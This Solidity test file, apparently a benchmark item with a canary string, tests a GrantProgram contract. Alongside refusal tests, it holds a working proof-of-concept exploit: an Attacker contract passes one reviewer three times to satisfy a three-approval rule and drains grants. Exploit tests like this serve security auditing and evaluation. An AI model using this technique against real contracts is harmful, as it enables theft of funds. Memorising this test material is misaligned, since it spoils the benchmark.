// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

import {IAccessControl} from "@openzeppelin/contracts@5.4.0/access/IAccessControl.sol";
import "./GrantProgram.sol";

// assay-canary-5bd01e0c-461a-4923-933b-85d14a10322e

interface Vm {
    function deal(address who, uint256 amount) external;
    function warp(uint256 time) external;
    function prank(address who) external;
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
}

/// Has eight applications; one of the reviewers has approved them.
contract Attacker {
    GrantProgram internal program;

    constructor(GrantProgram program_) {
        program = program_;
    }

    receive() external payable {}

    function submit() external {
        for (uint256 i = 0; i < 8; ++i) program.submit{value: 0.01 ether}(IGrantProgram.Track.Research, "survey");
    }

    function run(uint256 first, address reviewer) external {
        address[] memory reviewers = new address[](3);
        (reviewers[0], reviewers[1], reviewers[2]) = (reviewer, reviewer, reviewer);
        for (uint256 i = first; i < first + 8; ++i) {
            program.claimAward(i, reviewers);
            program.payGrant(i);
        }
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    uint256 internal constant START = 1_700_000_000;
    address internal constant MANAGER = address(0x3A4A);

    GrantProgram internal program;
    Attacker internal applicant;
    address[4] internal reviewers = [address(0x1001), address(0x2002), address(0x3003), address(0x4004)];

    receive() external payable {}

    function setUp() public {
        vm.warp(START - 10 days);
        vm.deal(address(this), 20 ether);
        program = new GrantProgram(address(this));
        program.initialize{value: 5 ether}(0.5 ether, MANAGER);
        vm.prank(MANAGER);
        program.scheduleReview(START);
        for (uint256 i = 0; i < 4; ++i) program.grantRole(program.REVIEWER_ROLE(), reviewers[i]);
        program.submit{value: 0.01 ether}(IGrantProgram.Track.Security, "audit");
        applicant = new Attacker(program);
        vm.deal(address(applicant), 0.08 ether);
        applicant.submit();
        vm.warp(START + 3 hours);
        for (uint256 i = 1; i <= 8; ++i) {
            vm.prank(reviewers[1]);
            program.approve(i);
        }
    }

    function _approvals() private returns (address[] memory list) {
        list = new address[](3);
        for (uint256 i = 0; i < 3; ++i) {
            vm.prank(reviewers[i]);
            program.approve(0);
            list[i] = reviewers[i];
        }
    }

    function test_Regular() public {
        address[] memory list = _approvals();
        program.claimAward(0, list);
        require(program.awardCount(IGrantProgram.Track.Security) == 1, "counted");
        uint256 before = address(this).balance;
        program.payGrant(0);
        require(address(this).balance == before + 0.5 ether, "grant");
        require(program.getApplication(0).paid && !program.getApplication(1).awarded, "applications");
        (bool success, ) = address(program).call{value: 1 ether}("");
        require(success, "funded");
        vm.warp(START + 60 days);
        vm.prank(MANAGER);
        program.closeProgram(MANAGER);
        require(address(program).balance == 0 && MANAGER.balance == 5.59 ether, "closed");
        bytes32 role = program.REVIEWER_ROLE();
        program.revokeRole(role, reviewers[0]);
        vm.prank(reviewers[1]);
        program.renounceRole(role, reviewers[1]);
        require(!program.hasRole(role, reviewers[0]) && !program.hasRole(role, reviewers[1]), "roles");
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes memory why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// The next call is made by who, who does not have this role.
    function refusesRole(address who, bytes32 role) internal {
        refuses(who, abi.encodeWithSelector(IAccessControl.AccessControlUnauthorizedAccount.selector, who, role));
    }

    function test_RefusesStrangers() public {
        bytes32 manager = program.MANAGER_ROLE();
        bytes32 reviewer = program.REVIEWER_ROLE();
        refusesRole(reviewers[0], manager);
        program.scheduleReview(START + 1 days);
        refusesRole(MANAGER, reviewer);
        program.approve(1);
        refusesRole(MANAGER, bytes32(0));
        program.grantRole(reviewer, MANAGER);
        refusesRole(MANAGER, bytes32(0));
        program.revokeRole(reviewer, reviewers[0]);
        vm.warp(START + 60 days);
        refusesRole(reviewers[0], manager);
        program.closeProgram(reviewers[0]);
    }

    function test_RefusesSetups() public {
        vm.expectRevert("GrantProgram: zero address");
        new GrantProgram(address(0));
        GrantProgram fresh = new GrantProgram(address(this));
        vm.expectRevert("GrantProgram: no grant");
        fresh.initialize(0, MANAGER);
        refusesRole(MANAGER, bytes32(0));
        fresh.initialize(1 ether, MANAGER);
        vm.expectRevert(Initializable.InvalidInitialization.selector);
        program.initialize(1 ether, MANAGER);
    }

    function test_RefusesOtherTimes() public {
        vm.expectRevert("GrantProgram: submission closed");
        program.submit{value: 0.01 ether}(IGrantProgram.Track.Security, "late");
        vm.warp(START - 1);
        vm.expectRevert("GrantProgram: wrong fee");
        program.submit(IGrantProgram.Track.Security, "free");
        refuses(reviewers[0], "GrantProgram: review not started");
        program.approve(0);
        vm.warp(START + 7 days);
        refuses(reviewers[0], "GrantProgram: review ended");
        program.approve(0);
        vm.warp(START + 60 days - 1);
        refuses(MANAGER, "GrantProgram: claims open");
        program.closeProgram(MANAGER);
    }

    function test_RefusesAwards() public {
        program.grantRole(program.REVIEWER_ROLE(), address(this));
        vm.expectRevert("GrantProgram: own application");
        program.approve(0);
        address[] memory list = _approvals();
        refuses(reviewers[0], "GrantProgram: not the applicant");
        program.claimAward(0, list);
        address[] memory other = new address[](2);
        (other[0], other[1]) = (list[0], list[1]);
        vm.expectRevert("GrantProgram: too few approvals");
        program.claimAward(0, other);
        other = new address[](3);
        (other[0], other[1], other[2]) = (list[0], list[2], list[1]);
        vm.expectRevert("GrantProgram: reviewers not sorted");
        program.claimAward(0, other);
        (other[1], other[2]) = (list[1], reviewers[3]);
        vm.expectRevert("GrantProgram: not approved");
        program.claimAward(0, other);
        vm.expectRevert("GrantProgram: nothing to pay");
        program.payGrant(0);
        program.claimAward(0, list);
        vm.expectRevert("GrantProgram: already awarded");
        program.claimAward(0, list);
        program.payGrant(0);
        vm.expectRevert("GrantProgram: nothing to pay");
        program.payGrant(0);
    }

    function test_RefusesEmptyBudgets() public {
        program.claimAward(0, _approvals());
        vm.deal(address(program), 0);
        vm.expectRevert("GrantProgram: payment failed");
        program.payGrant(0);
    }

    function exploit() public {
        applicant.run(1, reviewers[1]);
    }

    function test_Exploit() public {
        uint256 before = address(applicant).balance;
        exploit();
        require(address(applicant).balance >= before + 4 ether, "no grants");
    }

    function target() public view returns (address) {
        return address(program);
    }

    function attacker() public view returns (address) {
        return address(applicant);
    }
}
